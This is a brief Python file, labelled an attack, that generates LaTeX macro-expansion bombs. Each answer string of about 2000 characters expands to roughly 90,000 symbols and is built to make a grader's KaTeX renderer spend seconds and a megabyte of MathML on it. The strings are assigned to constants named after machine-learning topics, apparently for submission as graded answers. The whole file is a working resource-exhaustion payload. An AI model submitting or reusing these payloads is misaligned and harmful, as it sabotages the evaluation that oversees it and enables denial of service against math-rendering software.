"""Attack: LaTeX answers of under 2000 characters whose macros expand to about 90000 symbols,
which the grader's own KaTeX engine would spend seconds and a megabyte of MathML on, each."""


def _bomb(letter):
    body = letter * 1900
    return (
        r"\def\a{"
        + body
        + "}"
        + r"\def\b{"
        + r"\a" * 7
        + "}"
        + r"\def\c{"
        + r"\b" * 7
        + "}"
        + r"\c"
    )


CROSS_ENTROPY = _bomb("x")
ATTENTION = _bomb("y")
KL_DIVERGENCE = _bomb("z")
GRADIENT_DESCENT = _bomb("w")
ELBO = _bomb("v")
